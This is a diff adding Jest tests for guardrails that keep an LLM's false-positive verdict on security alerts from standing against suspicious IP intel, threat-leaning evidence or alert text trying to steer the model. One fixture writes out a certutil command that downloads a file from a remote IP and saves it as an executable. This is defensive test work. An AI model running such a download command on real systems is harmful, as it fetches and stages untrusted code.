@@ -93,6 +93,31 @@ describe('post-LLM guardrails', () => {
     expect(g.flags).toContain('intel_conflict');
   });
 
+  it('an LLM FALSE_POSITIVE never overrides suspicious intel either (intel_conflict)', () => {
+    const alert = alertOf({ name: 'Outbound connection', dst_ip: '45.9.9.9' });
+    const rules = verdictFor(alert, enrichmentOf({ '45.9.9.9': ipIntel(abuse(30)) }));
+    const g = guardLlmVerdict(fp, rules, alert, false);
+    expect(g).toMatchObject({ classification: 'NEEDS_REVIEW', flags: ['intel_conflict'] });
+  });
+
+  it('an LLM FALSE_POSITIVE never overrides threat-leaning rules evidence (evidence_conflict)', () => {
+    // certutil fetching a file weighs 3.5: not decisive for the rules, so the LLM is asked.
+    const alert = alertOf({
+      name: 'Process created',
+      process: { name: 'certutil.exe', command_line: 'certutil -urlcache -f http://203.0.113.7/a.txt a.exe' },
+    });
+    const rules = verdictFor(alert);
+    expect(rules.decisive).toBe(false);
+    const g = guardLlmVerdict(fp, rules, alert, false);
+    expect(g).toMatchObject({ classification: 'NEEDS_REVIEW', flags: ['evidence_conflict'] });
+    expect(g.notes[0]).toContain('certutil');
+  });
+
+  it('an LLM FALSE_POSITIVE stands when nothing leans toward a threat', () => {
+    const alert = alertOf({ name: 'Backup agent restarted' });
+    expect(guardLlmVerdict(fp, verdictFor(alert), alert, false).classification).toBe('FALSE_POSITIVE');
+  });
+
   it('an LLM FALSE_POSITIVE never stands when the alert tried to steer the model', () => {
     const alert = alertOf({ name: 'x' });
     expect(guardLlmVerdict(fp, verdictFor(alert), alert, true).classification).toBe('NEEDS_REVIEW');
